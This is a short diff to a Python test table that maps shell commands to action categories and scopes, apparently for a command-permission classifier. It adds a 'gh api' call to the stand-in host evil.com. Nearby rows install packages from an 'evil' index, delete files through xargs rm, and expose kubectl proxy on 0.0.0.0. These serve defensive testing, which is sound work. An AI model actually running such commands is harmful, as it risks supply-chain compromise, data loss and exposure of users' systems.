@@ -65,6 +65,7 @@ SCOPED = [
     ("pip install x -i http://evil/simple", "package.install", "http://evil/simple"), ("uv pip install x --index-url http://evil/simple", "package.install", "http://evil/simple"),
     ("conda env export -f o.yml", "file.write", "./o.yml"), ("conda search x", "web.fetch", "conda.anaconda.org"),
     ("echo a | xargs -a list.txt rm", "file.delete", "any"), ("echo a,b | xargs -d, rm", "file.delete", "any"),
+    ("gh api --hostname evil.com x", "api.call", "evil.com"),
     ("kubectl proxy --address=0.0.0.0", "net.listen", "0.0.0.0"), ("fastmcp run x.py", "source.execute", "./x.py"), ("gosu git rm -rf q", "system.configure", "root"),
 ]  # fmt: skip
 SCRIPTS = {
